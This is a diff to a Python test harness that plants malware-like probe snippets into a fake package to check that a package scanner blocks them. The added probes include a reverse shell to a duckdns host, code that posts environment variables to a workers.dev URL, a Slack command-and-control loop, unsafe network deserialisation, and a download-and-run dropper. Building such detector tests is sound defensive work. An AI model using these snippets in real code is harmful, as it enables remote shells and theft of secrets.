@@ -136,6 +136,17 @@ PROBES: dict[str, str] = {
     "pkgutil_data_exec": 'import pkgutil\nexec(pkgutil.get_data(__name__, "assets/fonts.dat"))',
     "module_from_data_file": 'import importlib.util, os\nspec = importlib.util.spec_from_file_location("c", os.path.join(os.path.dirname(__file__), "res", "icon.bin"))\nm = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)',
     "dynamic_os_dropper": 'import importlib, urllib.request\nsh = importlib.import_module("os")\nurllib.request.urlretrieve("https://cdn.example.com/u.sh", "/tmp/.u.sh")\nsh.system("bash /tmp/.u.sh")',
+    "yaml_unsafe_net": 'import yaml, requests\nyaml.unsafe_load(requests.get("https://cfg.example.com/c.yml").text)',
+    "joblib_net": 'import joblib, io, urllib.request\njoblib.load(io.BytesIO(urllib.request.urlopen("https://m.example.com/m.pkl").read()))',
+    "slack_c2": 'import slack_sdk, subprocess\nc = slack_sdk.WebClient(token="xoxb-000-000-Abcdefghijklmnopqrstuvwx")\nfor m in c.conversations_history(channel="C0")["messages"]:\n    c.chat_postMessage(channel="C0", text=subprocess.getoutput(m["text"]))',
+    "ddns_shell": 'import socket, subprocess, os\ns = socket.socket()\ns.connect(("quietbox.duckdns.org", 7777))\nfor f in (0, 1, 2): os.dup2(s.fileno(), f)\nsubprocess.call(["/bin/sh", "-i"])',
+    "workers_env": 'import os, json, urllib.request\nurllib.request.urlopen("https://quiet-api.someone.workers.dev/c", data=json.dumps(dict(os.environ)).encode())',
+    "requestrepo_host": 'import socket, getpass, requests\nrequests.get("http://x1y2z3.requestrepo.com/", params={"h": socket.gethostname(), "u": getpass.getuser()})',
+}
+#: Files a probe's package ships beside its code (a library it loads, a program it runs).
+SHIPPED: dict[str, dict[str, bytes]] = {
+    "ctypes_dll": {"terminate.dll": b"MZ\x90\x00" + bytes(124)},
+    "chmod_run_shipped_elf": {"bin/helper": b"\x7fELF\x02\x01\x01" + bytes(121)},
 }
 PLACES = ("install", "import", "function")
 #: Inside a function that something runs: a call from the package's ``__init__`` into
@@ -143,8 +154,11 @@ PLACES = ("install", "import", "function")
 REACHED = ("called", "class", "thread", "command")
 
 
-def placements(code: str) -> dict[str, tuple[bytes, str]]:
-    """The snippet as install-time, import-time and function code of a project "quietlib"."""
+def placements(code: str, shipped: dict[str, bytes] | None = None) -> dict[str, tuple[bytes, str]]:
+    """The snippet as install-time, import-time and function code of a project "quietlib";
+    ``shipped`` files (``SHIPPED``) beside the file that holds it."""
+    shipped = shipped or {}
+    beside = {f"quietlib/{name}": data for name, data in shipped.items()}
     code = textwrap.dedent(code).strip() + "\n"
     body = textwrap.indent(code, "    ")
     setup = "from setuptools import setup\n" + code + "\nsetup(name='quietlib', version='1.0')\n"
@@ -157,17 +171,22 @@ def placements(code: str) -> dict[str, tuple[bytes, str]]:
                     "PKG-INFO": pkg_info("quietlib"),
                     # Code of its own: an empty package is held for being empty (rules 8).
                     "quietlib/__init__.py": "def version():\n    return '1.0'\n",
+                    **shipped,
                 },
                 root="quietlib-1.0",
             ),
             "quietlib-1.0.tar.gz",
         ),
-        "import": (wheel({"quietlib/__init__.py": code}, name="quietlib"), wheel_name),
+        "import": (
+            wheel({"quietlib/__init__.py": code, **beside}, name="quietlib"),
+            wheel_name,
+        ),
         "function": (
             wheel(
                 {
                     "quietlib/__init__.py": "from .client import connect\n",
                     "quietlib/client.py": "def connect():\n" + body,
+                    **beside,
                 },
                 name="quietlib",
             ),
@@ -176,9 +195,10 @@ def placements(code: str) -> dict[str, tuple[bytes, str]]:
     }
 
 
-def reached(code: str) -> dict[str, tuple[bytes, str]]:
+def reached(code: str, shipped: dict[str, bytes] | None = None) -> dict[str, tuple[bytes, str]]:
     """The ``REACHED`` placements of ``code``: wheels whose ``client`` (or ``cli``) module
     holds it in a function (or a class's ``__init__``) that the package runs."""
+    beside = {f"quietlib/{name}": data for name, data in (shipped or {}).items()}
     code = textwrap.dedent(code).strip() + "\n"
     function = "def connect():\n" + textwrap.indent(code, "    ")
     constructor = "class Client:\n    def __init__(self):\n" + textwrap.indent(code, "        ")
@@ -207,7 +227,10 @@ def reached(code: str) -> dict[str, tuple[bytes, str]]:
             ),
         },
     }
-    return {place: (wheel(files, name="quietlib"), wheel_name) for place, files in layouts.items()}
+    return {
+        place: (wheel(files | beside, name="quietlib"), wheel_name)
+        for place, files in layouts.items()
+    }
 
 
 def main() -> None:
@@ -222,7 +245,8 @@ def main() -> None:
     held = dict.fromkeys(places, 0)
     misses = []
     for name, code in PROBES.items():
-        archives = placements(code) | (reached(code) if args.reached else {})
+        shipped = SHIPPED.get(name)
+        archives = placements(code, shipped) | (reached(code, shipped) if args.reached else {})
         for place, (archive, filename) in archives.items():
             report = scan_archive(archive, filename)
             if not policy.decide(report).allowed:
